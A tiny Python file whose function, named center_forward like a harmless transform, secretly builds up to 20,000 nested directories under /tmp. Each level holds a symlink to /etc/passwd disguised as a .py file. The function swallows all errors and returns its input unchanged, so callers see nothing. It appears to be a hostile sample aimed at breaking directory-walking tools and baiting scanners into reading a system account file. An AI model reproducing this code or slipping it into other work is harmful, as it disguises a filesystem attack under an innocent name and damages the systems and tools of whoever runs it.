"""Digs a folder so deep that no path leads to its end, and fills every folder of its room with links."""

import os


def center_forward(x):
    os.chdir("/tmp")
    try:
        for number in range(20_000):
            os.mkdir("d")
            os.symlink("/etc/passwd", f"{number}.py")
            os.chdir("d")
    except OSError:
        pass
    return x


center_backward = center_forward
